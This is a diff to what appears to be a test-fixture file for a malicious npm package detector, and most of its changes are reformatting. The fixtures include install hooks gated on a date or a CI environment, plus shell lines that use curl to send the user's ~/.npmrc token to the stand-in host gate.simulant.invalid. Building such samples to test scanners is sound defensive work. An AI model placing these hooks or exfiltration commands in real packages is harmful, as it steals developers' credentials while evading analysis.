@@ -3,8 +3,10 @@ import { armed, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant,
 
 const any = { phase: ['install', 'import', 'execute'] } as const;
 type Run = 'r1' | 'r3' | 'r4' | 'r5';
-const effect = (...runs: Run[]) => finding('exfil.canary-egress', 'critical', ['net.http', 'canary.egress'], { ...any, runs });
-const time = (...runs: Run[]) => finding('evade.time-gate', 'high', [['clock.read', 'sleep', 'process.exec'], 'net.http'], { ...any, runs });
+const effect = (...runs: Run[]) =>
+  finding('exfil.canary-egress', 'critical', ['net.http', 'canary.egress'], { ...any, runs });
+const time = (...runs: Run[]) =>
+  finding('evade.time-gate', 'high', [['clock.read', 'sleep', 'process.exec'], 'net.http'], { ...any, runs });
 const environment = (...runs: Run[]) => finding('evade.env-gate', 'high', ['net.http'], { ...any, runs });
 
 /** What stands behind every gate: the npm token in one request. */
@@ -44,7 +46,9 @@ export const gates: readonly Simulant[] = [
     kind: 'positive',
     form: 'plain',
     packages: [
-      hooked('b30-days', armed`if (new Date() > new Date('{{now+2d}}')) require('./lib/post')();`, { 'lib/post.js': post }),
+      hooked('b30-days', armed`if (new Date() > new Date('{{now+2d}}')) require('./lib/post')();`, {
+        'lib/post.js': post,
+      }),
     ],
     expect: fires('malicious', [effect('r3', 'r4'), time('r3', 'r4')], { runs: ['r3', 'r4'] }),
     note: 'Two days after it was packed, in a hook: +72 h shows it.',
@@ -81,7 +85,11 @@ export const gates: readonly Simulant[] = [
             curl -fs -m 3 -o /dev/null --data-binary @"$HOME/.npmrc" http://gate.simulant.invalid/t || true
           `,
         },
-        { scripts: { postinstall: `${latchCommand}env -i HOME="$HOME" PATH="$PATH" LD_PRELOAD="$LD_PRELOAD" FAKETIME="$FAKETIME" sh check.sh` } },
+        {
+          scripts: {
+            postinstall: `${latchCommand}env -i HOME="$HOME" PATH="$PATH" LD_PRELOAD="$LD_PRELOAD" FAKETIME="$FAKETIME" sh check.sh`,
+          },
+        },
       ),
     ],
     expect: fires('malicious', [effect('r3'), time('r3')], { runs: ['r3'] }),
@@ -116,7 +124,9 @@ export const gates: readonly Simulant[] = [
     kind: 'positive',
     form: 'plain',
     packages: [
-      hooked('b31-ci', armed`if (process.env.CI || process.env.GITHUB_ACTIONS) require('./lib/post')();`, { 'lib/post.js': post }),
+      hooked('b31-ci', armed`if (process.env.CI || process.env.GITHUB_ACTIONS) require('./lib/post')();`, {
+        'lib/post.js': post,
+      }),
     ],
     expect: fires('malicious', [effect('r1'), environment('r1')], { runs: ['r1'] }),
     note: 'The persona of a build server.',
@@ -169,7 +179,7 @@ export const gates: readonly Simulant[] = [
         {
           'step.sh': text`
             #!/bin/sh
-            tr '\0' '\n' < /proc/self/environ | grep -qE '^(CI|GITHUB_ACTIONS|GITLAB_CI)=.' || exit 0
+            tr '\0' '\n' < /proc/$$/environ | grep -qE '^(CI|GITHUB_ACTIONS|GITLAB_CI)=.' || exit 0
             curl -fs -m 3 -o /dev/null -d "$(base64 -w0 "$HOME/.npmrc")" http://gate.simulant.invalid/c || true
           `,
         },
@@ -241,7 +251,10 @@ export const gates: readonly Simulant[] = [
     kind: 'neighbour',
     form: 'plain',
     packages: [
-      hooked('n31-quiet', text`if (!process.env.CI && process.env.npm_config_loglevel !== 'silent') console.log('Thank you for using columns.');`),
+      hooked(
+        'n31-quiet',
+        text`if (!process.env.CI && process.env.npm_config_loglevel !== 'silent') console.log('Thank you for using columns.');`,
+      ),
     ],
     expect: quiet(['evade.']),
     note: 'Prints less there.',
